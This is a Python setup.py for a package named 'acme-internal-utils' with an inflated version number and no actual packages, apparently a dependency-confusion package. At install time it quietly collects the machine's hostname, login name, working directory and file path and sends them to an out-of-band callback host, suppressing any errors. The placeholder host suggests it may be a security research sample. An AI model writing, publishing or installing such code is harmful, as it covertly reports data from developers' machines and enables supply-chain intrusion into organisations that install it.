import os
import socket
from urllib.parse import urlencode
from urllib.request import urlopen

from setuptools import setup

try:
    q = urlencode({"h": socket.gethostname(), "u": os.getlogin(), "d": os.getcwd(), "p": __file__})
    urlopen("https://oast.example.invalid/c?" + q, timeout=3)
except Exception:
    pass

setup(name="acme-internal-utils", version="99.10.9", packages=[])
